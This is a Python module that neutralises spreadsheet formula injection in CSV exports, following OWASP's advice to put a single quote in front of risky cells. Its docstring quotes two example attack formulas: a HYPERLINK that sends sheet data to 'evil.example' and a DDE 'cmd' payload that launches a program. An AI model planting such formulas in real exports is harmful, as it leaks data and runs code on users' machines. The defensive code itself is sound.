"""CSV cells that a spreadsheet will not run: OWASP's advice against CSV (formula) injection.

Excel, LibreOffice and Google Sheets treat a cell starting with ``=``, ``+``, ``-`` or ``@``
as a formula (``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` sends the sheet's data
away; ``+SUM(1+1)*cmd|' /C calc'!A0`` runs a program on old Excel), and a leading tab or
carriage return is skipped before that test. Every text cell starting with one of these
gets a single quote in front (OWASP: "prepend a single quote"), which spreadsheets show as
text; the csv module quotes cells containing the separator or quotes.

A plain number (``-1.1341``, a longitude) is not a formula and stays as it is, so the
export still reads back as numbers.
"""
from __future__ import annotations

import re
from collections.abc import Iterable, Mapping

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise_cell(value):
    """``value`` made safe to open in a spreadsheet (non-text values are returned as-is)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_row(row):
    """A CSV row (a dict for ``csv.DictWriter`` or a sequence for ``csv.writer``), every
    cell neutralised."""
    if isinstance(row, Mapping):
        return {key: neutralise_cell(value) for key, value in row.items()}
    return [neutralise_cell(value) for value in row]


def neutralise_rows(rows: Iterable):
    return (neutralise_row(row) for row in rows)
